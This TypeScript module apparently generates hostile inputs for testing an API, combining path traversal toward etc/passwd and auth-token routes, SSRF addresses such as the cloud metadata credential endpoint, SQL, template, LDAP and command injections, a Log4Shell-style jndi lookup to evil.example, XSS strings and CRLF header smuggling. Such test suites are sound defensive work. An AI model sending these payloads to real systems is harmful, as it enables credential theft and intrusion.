const DEPTHS = [1, 2, 3, 5, 8];
const UP = [
  ...["../", "..\\", "..%2f", "..%5c", "%2e%2e/", ".%2e/", "....//", "..;/", "..%c0%af", "．．／"],
  ...["..%00/", "/./../"],
];
const GOALS = ["v3/auth/tokens", "v1/other/services", "etc/passwd", "_simulator/requests", ""];

const HOSTS = [
  ...["169.254.169.254/latest/meta-data/iam/security-credentials", "[fd00:ec2::254]/latest/meta-data"],
  ...["127.0.0.1:9", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:127.0.0.1]", "localhost"],
  ...["evil.example", "evil.example:443", "①②⑦.0.0.1"],
];
const ADDRESSES = [
  ...["http://", "https://", "//", "\\\\", "/\\", "@", "user:pass@", "a@b@", "ftp://", "file:///"],
  "gopher://",
];

const INJECTIONS = [
  ...["' OR '1'='1", "1; DROP TABLE services--", '{"$gt":""}', "$where:1", "{{7*7}}", "#{7*7}"],
  ...["<%= 7*7 %>", "\u0024{jndi:ldap://evil.example/a}", "<script>alert(1)</script>"],
  ...['"><img src=x onerror=alert(1)>', "javascript:alert(1)", "*)(uid=*))(|(uid=*", "`id`", "$(id)"],
  ...["|id", "&& id", "; id", "%0aid", "() { :; }; id", "__proto__", "constructor.prototype", "=1+1"],
  ...["@SUM(1)", "-1", "1e999", "NaN", "null", "undefined", "true", "[]", "{}", "*", "%", "%%", "%zz"],
  ...["%u0041", "\ud800", "\u202e", "\ufeff", "\u200b", "ﬀ", "İ", "K", "é", "中文", "🚀"],
];

const LINES = ["\r\n", "\n", "\r", "\u0085", "\u2028", "\v", "\f", "\0", "\t", "\x1b[2J", "\x7f"];
const LINE_TAILS = [
  "Host: evil.example",
  "X-Auth-Token: stolen",
  "\r\nGET /v3/auth/tokens HTTP/1.1\r\n",
  "Set-Cookie: a=b",
  "",
];

const SEPARATORS = [
  ...["?", "#", ";", "&", "=", "/", "\\", "//", ":", ",", "|", "+", " ", "%20", "%3f", "%23", "%26"],
  "%3b",
];
const TAILS = ["limit=1000", "a", "../b", "project_id=other", "events", "x=y&start_time=0"];

const LONG = [256, 4_096, 8_192, 16_384, 65_536, 200_000].flatMap((length) => [
  "a".repeat(length),
  "../".repeat(length / 4),
]);

/** Attempts to leave a path segment or parameter, to add to it, or to reach another host. */
export function hostilePayloads(ownId: string): readonly string[] {
  const traversals = DEPTHS.flatMap((depth) =>
    UP.flatMap((up) => GOALS.map((goal) => up.repeat(depth) + goal)),
  );
  const addresses = ADDRESSES.flatMap((scheme) => HOSTS.map((host) => scheme + host));
  const lines = LINES.flatMap((line) => LINE_TAILS.map((tail) => `${ownId}${line}${tail}`));
  const additions = SEPARATORS.flatMap((separator) => TAILS.map((tail) => `${ownId}${separator}${tail}`));
  return [...new Set([...traversals, ...addresses, ...INJECTIONS, ...lines, ...additions, ...LONG])];
}
